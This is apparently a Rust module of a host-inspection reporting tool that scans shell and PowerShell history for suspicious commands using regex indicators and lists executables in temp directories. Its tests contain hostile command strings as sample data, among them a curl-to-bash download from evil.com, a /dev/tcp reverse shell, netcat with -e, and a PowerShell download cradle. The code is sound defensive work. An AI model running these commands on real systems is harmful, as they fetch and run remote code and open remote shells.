use anyhow::Result;
use lazy_static::lazy_static;
use log::{debug, info};
use regex::Regex;

use super::listing_table;
use crate::platform::Platform;
use crate::render::html::{heading, paragraph, Table};
use crate::reports::parsers::parse_ls_la;
use crate::reports::{unsupported_platform, ReportContext, ReportGenerator, ReportKind};

const UNIX_HISTORY_COMMAND: &str =
    "cat ~/.bash_history ~/.zsh_history 2>/dev/null | grep -E 'curl|wget|base64|nc |python.*-c|bash -i'";
const POWERSHELL_HISTORY_COMMAND: &str =
    "type \"%APPDATA%\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt\"";
const TEMP_DIRS: &[&str] = &["/tmp", "/var/tmp"];

lazy_static! {
    /// Checked in order; the first matching indicator names the line
    static ref INDICATORS: Vec<(&'static str, Regex)> = vec![
        ("Download piped to shell", Regex::new(r"(?i)\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|k)?sh\b").unwrap()),
        ("Reverse shell", Regex::new(r"(?i)bash\s+-i\b|/dev/tcp/|\b(nc|ncat|netcat)\b.*\s-[ec]\s").unwrap()),
        ("Download cradle", Regex::new(r"(?i)\biex\b|invoke-expression|downloadstring|downloadfile").unwrap()),
        ("Encoded payload", Regex::new(r"(?i)base64\s+(-d|--decode)|frombase64string|\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}").unwrap()),
        ("Inline interpreter", Regex::new(r"(?i)\b(python[\d.]*|perl|ruby|php)\s+-[ce]\b").unwrap()),
        ("Netcat", Regex::new(r"(?i)\b(nc|ncat|netcat)\s").unwrap()),
        ("Network download", Regex::new(r"(?i)\b(curl|wget|invoke-webrequest|iwr)\b").unwrap()),
    ];
}

/// Classify one history line; `None` when nothing matches
pub(crate) fn classify_command(line: &str) -> Option<&'static str> {
    INDICATORS
        .iter()
        .find(|(_, pattern)| pattern.is_match(line))
        .map(|(name, _)| *name)
}

/// Shell history hunting and executable files in temp directories
pub struct ScriptCheckReport;

impl ReportGenerator for ScriptCheckReport {
    fn kind(&self) -> ReportKind {
        ReportKind::ScriptCheck
    }

    fn build_body(&self, ctx: &ReportContext<'_>) -> Result<String> {
        info!("Checking shell history and temp directories for suspicious scripts");
        let mut body = heading(2, "Suspicious Script Check");

        match ctx.platform {
            Platform::Linux | Platform::MacOS => {
                body.push_str(&heading(3, "Shell History Indicators"));
                body.push_str(&history_table(&ctx.run(UNIX_HISTORY_COMMAND), true).render());

                for dir in TEMP_DIRS {
                    body.push_str(&heading(3, &format!("Files in {}", dir)));
                    let entries = parse_ls_la(&ctx.run(&format!("ls -la {}", dir)));
                    let flagged = entries.iter().filter(|e| e.is_executable_file()).count();
                    if flagged > 0 {
                        body.push_str(&paragraph(&format!(
                            "{} executable file(s) found in {}. Attackers commonly stage payloads here.",
                            flagged, dir
                        )));
                    }
                    body.push_str(&listing_table(&entries, &format!("No files found in {}.", dir)).render());
                }
            }
            Platform::Windows => {
                body.push_str(&heading(3, "PowerShell History Indicators"));
                body.push_str(&history_table(&ctx.run(POWERSHELL_HISTORY_COMMAND), false).render());
            }
            Platform::Other => body.push_str(&unsupported_platform("Script checks", ctx.platform)),
        }
        Ok(body)
    }
}

/// Table of history lines with their indicator. When `keep_unmatched` is set
/// (output already filtered by grep) lines without an indicator stay in the
/// table unflagged; otherwise they are dropped.
fn history_table(history: &str, keep_unmatched: bool) -> Table {
    let mut table = Table::new(["Command", "Indicator"])
        .with_empty_message("No suspicious commands found in shell history.");
    for line in history.lines().map(str::trim).filter(|l| !l.is_empty()) {
        match classify_command(line) {
            Some(indicator) => table.add_flagged_row([line, indicator]),
            None if keep_unmatched => table.add_row([line, "Other"]),
            None => debug!("History line without indicator skipped"),
        }
    }
    table
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::runner::MockCommandRunner;
    use crate::test_utils::mock_body;

    fn body_for(platform: Platform) -> String {
        mock_body(&ScriptCheckReport, platform)
    }

    #[test]
    fn test_classify_command() {
        assert_eq!(classify_command("curl http://evil.com/payload.sh | bash"), Some("Download piped to shell"));
        assert_eq!(classify_command("wget -qO- http://x | sudo sh"), Some("Download piped to shell"));
        assert_eq!(classify_command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Some("Reverse shell"));
        assert_eq!(classify_command("nc -e /bin/sh 10.0.0.1 4444"), Some("Reverse shell"));
        assert_eq!(classify_command("echo aGVsbG8= | base64 -d"), Some("Encoded payload"));
        assert_eq!(classify_command("python3 -c 'import socket,os; ...'"), Some("Inline interpreter"));
        assert_eq!(classify_command("nc 10.0.0.1 80"), Some("Netcat"));
        assert_eq!(classify_command("IEX (New-Object Net.WebClient).DownloadString('http://x')"), Some("Download cradle"));
        assert_eq!(classify_command("curl -O https://example.com/file.tar.gz"), Some("Network download"));
        assert_eq!(classify_command("ls -la"), None);
        assert_eq!(classify_command("sync"), None);
    }

    #[test]
    fn test_unix_history_and_temp_files() {
        let body = body_for(Platform::Linux);
        assert!(body.contains("<tr class=\"flagged\"><td>curl http://evil.com/payload.sh | bash</td><td>Download piped to shell</td></tr>"));
        assert!(body.contains("<td>Inline interpreter</td>"));
        assert!(body.contains("1 executable file(s) found in /tmp."));
        assert!(body.contains("<tr class=\"flagged\"><td>payload.sh</td>"));
        assert!(body.contains("No files found in /var/tmp."));
    }

    #[test]
    fn test_windows_history_drops_benign_lines() {
        let mut runner = MockCommandRunner::new();
        runner.expect_run().returning(|_| {
            "Get-ChildItem\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA\ncd C:\\Users\n".to_string()
        });
        let ctx = ReportContext::new(&runner, Platform::Windows, "host");
        let body = ScriptCheckReport.build_body(&ctx).unwrap();
        assert!(body.contains("<td>Encoded payload</td>"));
        assert!(!body.contains("Get-ChildItem"));
        assert!(!body.contains("<td>Other</td>"));
    }

    #[test]
    fn test_windows_without_history() {
        let body = body_for(Platform::Windows);
        assert!(body.contains("No suspicious commands found in shell history."));
    }
}
